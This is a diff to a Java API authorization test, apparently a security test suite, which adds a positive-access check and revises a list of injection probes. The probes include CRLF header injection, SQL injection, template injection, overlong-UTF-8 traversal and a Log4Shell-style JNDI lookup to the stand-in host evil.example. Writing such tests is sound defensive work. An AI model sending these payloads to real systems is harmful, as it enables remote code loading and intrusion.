@@ -22,6 +22,12 @@ public class Api1ObjectAuthorizationTest extends Attack {
     return target().objects().stream().map(path -> Request.get(path.replace("{id}", id)));
   }
 
+  @Test
+  void an_object_that_is_there_is_reached() {
+    assertThat(objects(target().object()))
+        .allSatisfy(request -> assertThat(status(withKey(callerKey(), request))).isEqualTo(200));
+  }
+
   @ParameterizedTest
   @ValueSource(
       strings = {
@@ -35,7 +41,7 @@ public class Api1ObjectAuthorizationTest extends Attack {
         "a%00b",
         "%0d%0aSet-Cookie:%20a=b",
         "'%20OR%20'1'='1",
-        "%7B%7B7*7%7D%7D",
+        "%7B%7B1337*1337%7D%7D",
         "$%7Bjndi:ldap:%2F%2Fevil.example%2Fa%7D",
         "*",
         "%C0%AE%C0%AE",
@@ -46,7 +52,7 @@ public class Api1ObjectAuthorizationTest extends Attack {
         .allSatisfy(request -> {
           Response response = answer(withKey(callerKey(), request));
           assertThat(response.status()).isBetween(400, 499);
-          assertThat(response.text()).doesNotContain("root:", "Exception", "49");
+          assertThat(response.text()).doesNotContain("root:", "Exception", "1787569");
         });
   }
 
@@ -64,7 +70,7 @@ public class Api1ObjectAuthorizationTest extends Attack {
   void who_may_not_call_does_not_learn_which_objects_are_there() {
     for (String path : target().objects()) {
       List<Response> answers =
-          Stream.of("doubler", "there-is-no-such-thing")
+          Stream.of(target().object(), "there-is-no-such-thing")
               .map(id -> Request.get(path.replace("{id}", id)))
               .map(this::answer)
               .toList();
